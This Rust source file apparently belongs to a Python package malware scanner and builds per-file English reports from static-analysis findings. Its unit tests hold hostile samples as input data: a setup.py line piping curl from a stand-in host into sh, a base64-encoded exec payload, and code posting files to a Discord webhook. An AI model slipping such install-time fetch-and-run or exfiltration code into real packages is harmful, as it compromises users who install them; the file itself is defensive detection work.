//! The English sentences of a per-file report. Every sentence is built from findings and cites
//! `file:line`; nothing is boilerplate that would read the same for any file.

use wheelhound_analysis::{Category, ExecContext, FileAnalysis, FileRole, Finding};
use wheelhound_scoring::{Contribution, FileScores, level};

use crate::{Evidence, FileReport, ScoreMove};

/// Everything the text builder needs about one file.
pub struct FileInput<'a> {
    /// The analysis of the file.
    pub analysis: &'a FileAnalysis,
    /// Its scores.
    pub scores: &'a FileScores,
    /// The package's declared name, for the purpose sentence.
    pub package_name: Option<&'a str>,
    /// The package's declared summary.
    pub package_summary: Option<&'a str>,
}

const MAX_LISTED: usize = 8;

/// Builds the report of one file (report number 1: the static engine).
pub fn build_file_report(input: &FileInput) -> FileReport {
    let analysis = input.analysis;
    let scores = input.scores;
    let mut findings: Vec<&Finding> = analysis.findings.iter().collect();
    findings.sort_by(|a, b| b.severity.total_cmp(&a.severity).then(a.line.cmp(&b.line)));

    FileReport {
        path: analysis.path.clone(),
        purpose: purpose(input, &findings),
        sources: sources(analysis, &findings),
        sinks: sinks(&findings),
        flows: flows(input.analysis, &findings),
        anomalies: anomalies(analysis, &findings),
        analysis: walkthrough(analysis, scores),
        conclusion: conclusion(analysis, scores),
        confidence: scores.confidence,
        obfuscated: scores.obfuscated,
        malware: scores.malware,
        security_risk: scores.security_risk,
        report_number: 1,
        evidence: findings.iter().map(|f| evidence(f)).collect(),
        score_moves: scores.contributions.iter().map(score_move).collect(),
        errors: analysis.errors.clone(),
    }
}

/// A finding as report evidence (also used for package-level findings).
pub fn evidence(f: &Finding) -> Evidence {
    Evidence {
        rule: f.rule.to_owned(),
        name: f.name.to_owned(),
        path: f.path.clone(),
        line: f.line,
        column: f.column,
        snippet: f.snippet.clone(),
        message: f.message.clone(),
        context: format!("{:?}", f.context)
            .to_lowercase()
            .replace("testordocs", "test_or_docs"),
    }
}

/// A score contribution as a report score move.
pub fn score_move(c: &Contribution) -> ScoreMove {
    ScoreMove {
        score: c.score.to_owned(),
        rule: c.rule.clone(),
        location: c.location.clone(),
        weight: c.weight,
        reason: c.reason.clone(),
    }
}

fn module_name(path: &str) -> String {
    // Compiled bytecode names the module it was compiled from, not its cache file.
    let source = wheelhound_analysis::bytecode_source_path(path);
    let path = source.as_deref().unwrap_or(path);
    let inner = path.rsplit("!/").next().unwrap_or(path);
    let mut parts: Vec<&str> = inner.split('/').collect();
    // Drop the sdist's `name-version/` directory and source-layout folders.
    if parts.len() > 1 && parts.first().is_some_and(|p| p.contains('-')) {
        parts.remove(0);
    }
    if parts.first() == Some(&"src") {
        parts.remove(0);
    }
    let mut name = parts.join(".");
    for suffix in [".py", ".pyw", ".pth"] {
        if let Some(stripped) = name.strip_suffix(suffix) {
            name = stripped.to_owned();
        }
    }
    name.trim_end_matches(".__init__").to_owned()
}

fn purpose(input: &FileInput, findings: &[&Finding]) -> String {
    let analysis = input.analysis;
    let facts = &analysis.facts;
    let package = input
        .package_name
        .map(|n| format!(" of the package {n}"))
        .unwrap_or_default();
    let mut text = match analysis.role {
        FileRole::Setup => {
            let declared = facts
                .setup_name
                .as_deref()
                .map(|n| format!(" declaring `{n}`"))
                .unwrap_or_default();
            let what = if facts.calls_setup {
                "calls setup() to build and install the package"
            } else {
                "does not call setup()"
            };
            format!("setuptools build script{package}{declared}; it {what}")
        }
        FileRole::Pth => format!(
            "path configuration file{package}, processed by Python's site module at every start-up"
        ),
        FileRole::PackageInit => format!(
            "initialiser of the Python package `{}`{package}, run on import",
            module_name(&analysis.path)
        ),
        FileRole::TestOrDocs => format!(
            "test, documentation or example code `{}`{package}",
            module_name(&analysis.path)
        ),
        FileRole::Module => format!("Python module `{}`{package}", module_name(&analysis.path)),
    };
    if let Some(doc) = &facts.docstring {
        text.push_str(&format!(". Its docstring says: \"{doc}\""));
    } else if let Some(summary) = input.package_summary.or(facts.setup_description.as_deref()) {
        text.push_str(&format!(". The package describes itself as: \"{summary}\""));
    }
    let imports: Vec<&str> = facts.imports.iter().take(8).map(String::as_str).collect();
    if !imports.is_empty() {
        text.push_str(&format!(". It imports {}", imports.join(", ")));
        if facts.imports.len() > imports.len() {
            text.push_str(&format!(
                " and {} more",
                facts.imports.len() - imports.len()
            ));
        }
    }
    if facts.functions + facts.classes > 0 {
        text.push_str(&format!(
            " and defines {} function(s) and {} class(es)",
            facts.functions, facts.classes
        ));
    }
    if let Some(top) = findings.iter().find(|f| f.severity >= 0.4) {
        text.push_str(&format!(
            ". What it evidently does: {} ({})",
            top.message,
            top.location()
        ));
    }
    text.push('.');
    text
}

fn list_findings(findings: &[&Finding], filter: impl Fn(&Finding) -> bool) -> Vec<String> {
    let mut seen = std::collections::HashSet::new();
    findings
        .iter()
        .filter(|f| filter(f))
        .filter(|f| seen.insert((f.rule, f.message.clone())))
        .take(MAX_LISTED)
        .map(|f| format!("{} ({})", f.message, f.location()))
        .collect()
}

fn sources(analysis: &FileAnalysis, findings: &[&Finding]) -> String {
    let mut items: Vec<String> = list_findings(findings, |f| f.category == Category::Source)
        .into_iter()
        .map(|item| {
            item.strip_prefix("reads ")
                .map(str::to_owned)
                .unwrap_or(item)
        })
        .collect();
    // Ordinary file contents are tracked only to recognise harmless idioms; they are not sensitive.
    let sensitive = analysis
        .sources
        .iter()
        .filter(|s| s.kind != wheelhound_analysis::SourceKind::FileContent);
    for source in sensitive.take(MAX_LISTED) {
        let item = format!("{} ({})", source.label, source.location);
        if !items
            .iter()
            .any(|i| i.contains(&source.location) && i.contains(&source.label))
        {
            items.push(item);
        }
    }
    if items.is_empty() {
        "No sensitive source: no credential, browser, wallet or token store, secret environment variable, whole-environment dump, system-information or network-response read was found.".to_owned()
    } else {
        format!("Reads {}.", items.join("; "))
    }
}

fn sinks(findings: &[&Finding]) -> String {
    let items = list_findings(findings, |f| f.category == Category::Sink);
    if items.is_empty() {
        "No sink: no process spawn, network call, exec/eval of dynamic code, or executable/autostart file write was found.".to_owned()
    } else {
        let more = findings
            .iter()
            .filter(|f| f.category == Category::Sink)
            .count()
            .saturating_sub(items.len());
        let tail = if more > 0 {
            format!("; and {more} more")
        } else {
            String::new()
        };
        format!("{}{tail}.", items.join("; "))
    }
}

/// Tags of findings that execute a payload: the path from where the code comes from to where it
/// runs is a flow too, the one a reader of a dropper wants named.
const PAYLOAD_TAGS: &[&str] = &[
    "exec-decoded",
    "exec-remote",
    "shell-dropper",
    "reverse-shell",
    "recon-exfil",
];

fn flows(analysis: &FileAnalysis, findings: &[&Finding]) -> String {
    // The flow that decides the verdict first (stolen data to a webhook before a paginated
    // address read from a response); equal weights stay in source order.
    let mut traced: Vec<&&Finding> = findings
        .iter()
        .filter(|f| f.category == Category::Flow)
        .collect();
    traced.sort_by(|a, b| b.severity.total_cmp(&a.severity));
    let mut items: Vec<String> = traced
        .into_iter()
        .take(MAX_LISTED)
        .map(|f| f.message.clone())
        .collect();
    let mut payloads: Vec<&&Finding> = findings
        .iter()
        .filter(|f| {
            f.tags.iter().any(|t| PAYLOAD_TAGS.contains(t))
                // Code computed and run while loading is a payload even when it cannot be read,
                // and so is a strongly weighed process start: the command is the payload
                // (`python -c "from dependency import stage2"` at install time).
                || f.rule == "WH110" && f.severity >= 0.3 && f.context != ExecContext::TestOrDocs
                || f.rule == "WH120" && f.severity >= 0.5 && f.context != ExecContext::TestOrDocs
        })
        .collect();
    payloads.sort_by(|a, b| b.severity.total_cmp(&a.severity));
    for payload in payloads
        .into_iter()
        .take(MAX_LISTED.saturating_sub(items.len()).max(1))
    {
        let layers: Vec<&str> = analysis
            .layers
            .iter()
            // Layers found in the file itself are the first ones queued at that line.
            .filter(|l| payload.path == analysis.path && l.line == payload.line)
            .map(|l| l.name.as_str())
            .take(1)
            .collect();
        let decoded = if layers.is_empty() {
            String::new()
        } else {
            format!(" → payload analysed as {}", layers.join(", "))
        };
        items.push(format!(
            "executed payload: {} ({}:{}) {}{decoded}",
            payload.message,
            payload.path,
            payload.line,
            payload.context.phrase()
        ));
    }
    // An endpoint beside the call that contacts it, and an executable's URL beside the process
    // that starts it, are the paths of exfiltration and of staged payloads.
    let strongest = |keep: &dyn Fn(&Finding) -> bool| {
        findings
            .iter()
            .filter(|f| keep(f) && f.context != ExecContext::TestOrDocs)
            .max_by(|a, b| a.severity.total_cmp(&b.severity))
            .copied()
    };
    let endpoint = strongest(&|f| {
        f.rule == "WH160"
            && (f.severity >= 0.3 || f.severity >= 0.15 && f.message.contains("executable"))
    });
    if let Some(endpoint) = endpoint {
        if endpoint.message.contains("executable") {
            if let Some(run) = strongest(&|f| f.rule == "WH120") {
                items.push(format!(
                    "staged payload: {} ({}:{}) → process start ({}:{}) {}",
                    endpoint.message,
                    endpoint.path,
                    endpoint.line,
                    run.path,
                    run.line,
                    run.context.phrase()
                ));
            }
        } else if let Some(call) = strongest(&|f| f.rule == "WH130") {
            items.push(format!(
                "network call ({}:{}) {} → {} ({}:{})",
                call.path,
                call.line,
                call.context.phrase(),
                endpoint.message,
                endpoint.path,
                endpoint.line
            ));
        }
    }
    if items.is_empty() {
        let has_source = findings.iter().any(|f| f.category == Category::Source);
        let has_sink = findings.iter().any(|f| f.category == Category::Sink);
        match (has_source, has_sink) {
            (true, true) => "Sources and sinks are both present, but no data path from one to the other was traced within a scope.".to_owned(),
            _ => "No flow from a sensitive source to a network, process or exec sink was found.".to_owned(),
        }
    } else {
        format!("{}.", items.join("; "))
    }
}

fn anomalies(analysis: &FileAnalysis, findings: &[&Finding]) -> String {
    let mut items = list_findings(findings, |f| f.category == Category::Anomaly);
    for layer in &analysis.layers {
        items.push(format!(
            "decoded payload analysed as {} ({}, line {})",
            layer.name, layer.how, layer.line
        ));
    }
    if analysis.syntax_errors > 0 {
        items.push(format!(
            "{} syntax error(s) recovered from",
            analysis.syntax_errors
        ));
    }
    if items.is_empty() {
        "None: no install hook, obfuscation, encoded payload, computed import or suspicious endpoint was found.".to_owned()
    } else {
        format!("{}.", items.join("; "))
    }
}

fn walkthrough(analysis: &FileAnalysis, scores: &FileScores) -> String {
    let mut ordered: Vec<&Finding> = analysis.findings.iter().collect();
    ordered.sort_by(|a, b| a.path.cmp(&b.path).then(a.line.cmp(&b.line)));
    let mut out = String::new();
    if ordered.is_empty() {
        out.push_str(&format!(
            "Analysed {} line(s); none of the {} detectors found anything.",
            analysis.lines,
            wheelhound_analysis::rules::ALL.len()
        ));
    } else {
        let notable: Vec<&&Finding> = ordered
            .iter()
            .filter(|f| f.severity >= 0.05)
            .take(12)
            .collect();
        let shown: Vec<&&Finding> = if notable.is_empty() {
            ordered.iter().take(6).collect()
        } else {
            notable
        };
        let steps: Vec<String> = shown
            .iter()
            .map(|f| {
                format!(
                    "{}: {} [{} {}, {}, weight {:.2}]",
                    f.location(),
                    f.message,
                    f.rule,
                    f.name,
                    f.context.phrase(),
                    f.severity
                )
            })
            .collect();
        out.push_str(&format!(
            "Analysed {} line(s). In source order: {}.",
            analysis.lines,
            steps.join("; ")
        ));
        let hidden = ordered.len() - shown.len();
        if hidden > 0 {
            out.push_str(&format!(
                " {hidden} lower-weight finding(s) are listed in the evidence."
            ));
        }
    }
    let malware_moves: Vec<String> = scores
        .contributions
        .iter()
        .filter(|c| c.score == "malware" && c.weight >= 0.05)
        .take(4)
        .map(|c| format!("{} {:.2} at {}", c.rule, c.weight, c.location))
        .collect();
    if !malware_moves.is_empty() {
        out.push_str(&format!(
            " The malware score {:.2} rests on {}.",
            scores.malware,
            malware_moves.join(", ")
        ));
    }
    out
}

fn conclusion(analysis: &FileAnalysis, scores: &FileScores) -> String {
    let verdict = level(scores.malware);
    let decisive: Vec<String> = scores
        .contributions
        .iter()
        .filter(|c| c.score == "malware" && c.weight >= 0.25)
        .take(2)
        .map(|c| format!("{} ({})", c.reason, c.location))
        .collect();
    let capitalised = {
        let mut chars = verdict.chars();
        chars
            .next()
            .map(|c| c.to_uppercase().collect::<String>() + chars.as_str())
            .unwrap_or_default()
    };
    if decisive.is_empty() {
        let capabilities: Vec<&str> = {
            let mut names: Vec<&str> = analysis.findings.iter().map(|f| f.name).collect();
            names.sort_unstable();
            names.dedup();
            names
        };
        if capabilities.is_empty() {
            format!(
                "{capitalised} (malware {:.2}): no detector found secret or system-data reads, dynamic code execution, process starts, network use, install hooks or hidden content in this file.",
                scores.malware
            )
        } else {
            format!(
                "{capitalised} (malware {:.2}): the file uses ordinary capabilities ({}) in ways that legitimate code does; nothing runs them with hidden or stolen data at install or import time.",
                scores.malware,
                capabilities.join(", ")
            )
        }
    } else {
        format!(
            "{capitalised} (malware {:.2}): {}.",
            scores.malware,
            decisive.join("; and ")
        )
    }
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]
    #![allow(clippy::indexing_slicing)]
    use super::*;
    use wheelhound_analysis::{AnalysisOptions, analyze_python};

    fn report(path: &str, code: &str) -> FileReport {
        let analysis = analyze_python(path, code.as_bytes(), &AnalysisOptions::default());
        let scores = wheelhound_scoring::score_file(&analysis);
        build_file_report(&FileInput {
            analysis: &analysis,
            scores: &scores,
            package_name: Some("demo"),
            package_summary: None,
        })
    }

    #[test]
    fn malicious_report_cites_lines() {
        let r = report(
            "demo-1/setup.py",
            "import os\nos.system('curl http://x.invalid/a | sh')\n",
        );
        assert!(r.malware >= 0.7);
        assert!(r.conclusion.starts_with("Malicious"), "{}", r.conclusion);
        assert!(r.sinks.contains("demo-1/setup.py:2"), "{}", r.sinks);
        assert!(r.analysis.contains("WH120"));
        assert!(!r.evidence.is_empty());
    }

    #[test]
    fn flows_name_the_executed_payload_and_its_layer() {
        // base64 of "import os\nos.system('id')\n"
        let r = report(
            "demo-1/setup.py",
            "import base64\nexec(base64.b64decode('aW1wb3J0IG9zCm9zLnN5c3RlbSgnaWQnKQo='))\n",
        );
        assert!(r.flows.starts_with("executed payload: exec runs code decoded by base64.b64decode (demo-1/setup.py:2) at install time → payload analysed as demo-1/setup.py#layer2"), "{}", r.flows);
        let clean = report("demo-1/setup.py", "from setuptools import setup\nsetup()\n");
        assert!(clean.flows.starts_with("No flow"), "{}", clean.flows);
    }

    #[test]
    fn flows_name_the_endpoint_data_goes_to() {
        let r = report(
            "demo-1/shots/loop.py",
            "import requests\nHOOK = 'https://discord.com/api/webhooks/1056642764701446254/LroWAHbhlld1gTQeVSSe2tNtzzmE3'\ndef go(shot):\n    requests.post(HOOK, files={'f': shot})\n",
        );
        assert!(
            r.flows.contains("network call (demo-1/shots/loop.py:4)"),
            "{}",
            r.flows
        );
        assert!(r.flows.contains("Discord webhook"), "{}", r.flows);
    }

    #[test]
    fn clean_report_says_why() {
        let r = report(
            "demo-1/demo/core.py",
            "\"\"\"Adds numbers.\"\"\"\ndef add(a, b):\n    return a + b\n",
        );
        assert_eq!(r.malware, 0.0);
        assert!(r.purpose.contains("Adds numbers"));
        assert!(r.conclusion.starts_with("Benign"));
        assert_eq!(r.report_number, 1);
    }

    #[test]
    fn socketai_view_has_reference_fields() {
        let r = report("demo-1/demo/core.py", "x = 1\n");
        let json = serde_json::to_value(r.socketai()).unwrap();
        let keys: Vec<&str> = json
            .as_object()
            .unwrap()
            .keys()
            .map(String::as_str)
            .collect();
        assert_eq!(keys.len(), 12);
        assert!(keys.contains(&"securityRisk"));
    }
}
